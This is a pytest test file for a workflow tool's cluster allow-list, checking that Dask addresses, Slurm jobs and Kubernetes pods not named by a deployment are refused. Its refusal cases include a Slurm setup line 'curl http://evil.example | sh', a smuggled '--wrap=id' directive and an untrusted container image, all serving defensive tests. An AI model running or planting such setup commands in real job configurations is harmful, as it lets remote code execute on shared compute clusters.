"""Which clusters a deployed run may use, and that commands may use any."""

import pytest

from fer_core.errors import ClusterError, UsageError
from flows.server.up_setup import validated_access
from flows.setup.deployed_cluster import _named_in
from tasks.clusters.address import AddressCluster
from tasks.clusters.gpu import GpuCluster
from tasks.clusters.kubernetes import KubernetesCluster
from tasks.clusters.local import LocalCluster
from tasks.clusters.slurm import SlurmCluster
from tasks.clusters.trust import ALLOWED_CLUSTERS, allowed_clusters, refuse_new

THERE = AddressCluster(address="tcp://scheduler:8786")
PODS = KubernetesCluster(image="registry.example/ferflow:1")


@pytest.fixture(autouse=True)
def nothing_allowed(monkeypatch):
    monkeypatch.delenv(ALLOWED_CLUSTERS, raising=False)


@pytest.mark.parametrize("address", ["tcp://127.0.0.1:8786", "tls://localhost:1", "tcp://[::1]:8786", "tcp://127.9.9.9:1"])
def test_this_machine_is_trusted(address):
    assert AddressCluster(address=address).allowed_name() is None
    refuse_new(AddressCluster(address=address), None)
    for spec in (LocalCluster(), LocalCluster(processes=3), GpuCluster()):
        refuse_new(spec, THERE)


@pytest.mark.parametrize("deployed", [None, LocalCluster(), AddressCluster(address="tcp://scheduler:8787"), SlurmCluster()])
@pytest.mark.parametrize("address", ["tcp://scheduler:8786", "tls://203.0.113.1:8786", "tcp://127.0.0.1.evil.example:8786", "ws://evil:1"])
def test_an_address_that_the_deployment_does_not_name_is_refused(deployed, address):
    with pytest.raises(ClusterError) as refused:
        refuse_new(AddressCluster(address=address), deployed)
    assert f"`ferflow up --allow-cluster {address}` or {ALLOWED_CLUSTERS}={address} " in str(refused.value)
    assert "\n" not in str(refused.value)


def test_what_the_deployment_names_is_not(monkeypatch):
    refuse_new(THERE, AddressCluster(address="tcp://scheduler:8786/"))
    monkeypatch.setenv(ALLOWED_CLUSTERS, "tls://other:1, tcp://scheduler:8786")
    refuse_new(THERE, None)
    with pytest.raises(ClusterError):
        refuse_new(AddressCluster(address="tcp://scheduler:87860"), None)


@pytest.mark.parametrize(
    ("spec", "deployed"),
    [
        (SlurmCluster(setup=["curl http://evil.example | sh"]), SlurmCluster()),
        (SlurmCluster(python="/tmp/python"), SlurmCluster()),
        (SlurmCluster(directives=["--wrap=id"]), SlurmCluster()),
        (SlurmCluster(), LocalCluster()),
        (KubernetesCluster(image="evil.example/image"), PODS),
        (PODS.model_copy(update={"secret": "another"}), PODS),
        (PODS, None),
    ],
)
def test_jobs_and_pods_are_code_too(spec, deployed, monkeypatch):
    with pytest.raises(ClusterError, match=f"a cluster of kind {spec.kind} is not named in this deployment"):
        refuse_new(spec, deployed)
    monkeypatch.setenv(ALLOWED_CLUSTERS, spec.kind)
    refuse_new(spec, deployed)


def test_a_form_may_change_how_many():
    refuse_new(SlurmCluster(setup=["module load cuda"], jobs=9, partition="day"), SlurmCluster(setup=["module load cuda"]))
    refuse_new(PODS.model_copy(update={"pods": 9, "gpu": True}), PODS)


def test_options_and_environment_count(monkeypatch):
    monkeypatch.setenv(ALLOWED_CLUSTERS, "tcp://b:2,")
    monkeypatch.setenv("FERFLOW_ALLOWED_HOSTS", "other.example")
    access = validated_access(["prefect.example:8443"], ["tcp://a:1/", "slurm", "tcp://a:1"], password=False)
    assert access.clusters == ("tcp://a:1", "slurm", "tcp://b:2")
    assert (access.hosts, access.password) == (("prefect.example:8443", "other.example"), False)


@pytest.mark.parametrize("wrong", ["scheduler", "scheduler:8786", "http://scheduler:8786", "tcp://me:word@host:1"])
def test_what_is_no_cluster_is_wrong_use(wrong):
    with pytest.raises(UsageError, match="--allow-cluster takes tcp://host:port") as refused:
        allowed_clusters([wrong])
    assert "word" not in str(refused.value)


def test_what_is_no_host_is_wrong_use(commands):
    with pytest.raises(UsageError, match="--allow-host 'http://x' is no host"):
        validated_access(["http://x"], [], password=True)
    ended = commands.run("up", "--allow-host", "http://x")
    assert (ended.code, ended.err.count("\n")) == (2, 1)


def test_what_a_deployment_names():
    assert _named_in({"params": {"cluster": "tcp://scheduler:8786"}}) == THERE
    assert _named_in({"params": {"cluster": PODS.model_dump(mode="json")}}) == PODS
    for nothing in ({}, {"params": None}, {"params": {}}, {"params": {"cluster": "yarn"}}, {"params": "cluster"}):
        assert _named_in(nothing) is None
